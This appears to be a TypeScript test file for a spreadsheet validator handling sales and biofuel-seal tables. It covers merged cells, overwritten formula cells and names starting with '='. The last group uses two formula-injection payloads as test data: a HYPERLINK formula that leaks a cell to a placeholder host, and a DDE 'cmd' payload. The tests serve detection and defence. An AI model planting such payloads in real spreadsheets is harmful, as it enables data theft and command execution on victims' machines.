import type { ColumnId } from '../../src/sheets/columns';
import { validateSales } from '../../src/validation/pgpmbio/validateSales';
import { validatePlantYear } from '../../src/validation/selo/validatePlantYear';
import type { TableWithValues } from '../../src/validation/tableCells';
import { CONTEXT, payable, said, sales, tableOf as salesTable, validate as check } from './pgpmbio/salesTable';
import { donation, found, parametersOf, soy, tableOf, validate } from './selo/tables';

/** The table with cells of columns merged over all its rows. */
function mergedIn(source: TableWithValues, ...columns: ColumnId[]): TableWithValues {
  const { table } = source;
  const mergedDown = columns.map((column) => ({
    row: table.dataRows[0]!,
    rows: table.dataRows.length,
    at: table.columns.find(({ id }) => id === column)!.at,
  }));
  return { ...source, table: { ...table, mergedDown } };
}

describe('a cell merged over several lines', () => {
  const lines = sales({}, { family: null, cpf: null });

  test('gives its value to all of them, and each is asked about', async () => {
    const validation = await validateSales(mergedIn(salesTable(lines), 'family', 'cpf'), CONTEXT);
    expect(said(validation)).toEqual(['A L31 family 1', 'A L31 cpf 1']);
    expect(payable(validation)).toEqual([152, 152]);
    expect(validation.totals.byFamily).toHaveLength(1);
  });

  test('without the merge an empty cell is a missing one', async () => {
    expect(said(await check(lines))).toEqual(['E L01 family 1', 'A L01 cpf 1']);
  });

  test('never repeats an amount or a price', async () => {
    const amounts = sales({}, { quantity: null, salePrice: null, marketPrice: null });
    const source = mergedIn(salesTable(amounts), 'quantity', 'salePrice', 'marketPrice');
    const validation = await validateSales(source, CONTEXT);
    expect(said(validation).filter((text) => text.startsWith('E'))).toEqual(['E L01 quantity 1', 'E L01 salePrice 1']);
    expect(payable(validation)).toEqual([152, null]);
  });

  test('a line that has its own value keeps it', async () => {
    const source = mergedIn(
      salesTable(sales({}, { family: 'SAF0123456789012345678901', cpf: '012.345.678-90' })),
      'family',
    );
    const validation = await validateSales(source, CONTEXT);
    expect(said(validation)).toEqual([]);
    expect(validation.totals.byFamily).toHaveLength(2);
  });

  test('costs of one item and region under it', async () => {
    const costs = tableOf('costs', [
      donation(),
      donation({ costItem: null, costLetter: null, region: null, invoiceNumber: 78, receipt: 'R-2' }),
    ]);
    const tables = {
      acquisitions: tableOf('acquisitions', [soy()]),
      costs: mergedIn(costs, 'costItem', 'costLetter', 'region', 'value'),
    };
    const validation = await validatePlantYear(tables, parametersOf());
    expect(found(validation, 'R36').map(({ table, row, column }) => [table, row, column])).toEqual([
      ['costs', 1, 'costItem'],
      ['costs', 1, 'costLetter'],
      ['costs', 1, 'region'],
    ]);
    expect(validation.costs?.admitted).toEqual([100, 100]);
  });
});

describe('a name that begins with =', () => {
  test('is pointed out and changes nothing (sales)', async () => {
    const rows = sales({ producerName: '=HYPERLINK("http://exemplo.invalid/?"&B2)' }, { producerName: '+55 91 90000' });
    const validation = await check(rows);
    expect(said(validation)).toEqual(['I L32 producerName 0']);
    expect(payable(validation)).toEqual([152, 152]);
  });

  test('is pointed out and changes nothing (Selo)', async () => {
    const acquisitions = [soy({ producerName: "=cmd|'/c calc'!A1" }), soy({ producerName: '-', invoiceNumber: 16 })];
    const validation = await validate({ acquisitions });
    expect(found(validation, 'R37').map(({ row, column, severity }) => [row, column, severity])).toEqual([
      [0, 'producerName', 'information'],
    ]);
    expect(validation.acquisitions.admitted).toEqual([2500, 2500]);
  });
});

describe('a value typed in the middle of a column of formulas', () => {
  const typedIn = (source: TableWithValues, row: number, column: ColumnId): TableWithValues => {
    const { table } = source;
    const at = table.columns.find(({ id }) => id === column)!.at;
    return { ...source, table: { ...table, typedOver: [{ row: table.dataRows[row]!, at }] } };
  };

  test('is asked about and used as it is (sales)', async () => {
    const validation = await validateSales(typedIn(salesTable(sales({}, {})), 1, 'quantity'), CONTEXT);
    expect(said(validation)).toEqual(['A L33 quantity 1']);
    expect(payable(validation)).toEqual([152, 152]);
  });

  test('is asked about and used as it is (Selo)', async () => {
    const acquisitions = tableOf('acquisitions', [soy(), soy({ invoiceNumber: 16 })]);
    const tables = { acquisitions: typedIn(acquisitions, 0, 'value') };
    const validation = await validatePlantYear(tables, parametersOf());
    expect(found(validation, 'R38').map(({ row, column, severity }) => [row, column, severity])).toEqual([
      [0, 'value', 'warning'],
    ]);
    expect(validation.acquisitions.admitted).toEqual([2500, 2500]);
  });

  test('of a row that is left out is not told', async () => {
    const source = typedIn(salesTable(sales({}, {})), 1, 'quantity');
    const table = { ...source.table, dataRows: source.table.dataRows.slice(0, 1) };
    expect(said(await validateSales({ ...source, table }, CONTEXT))).toEqual([]);
  });
});
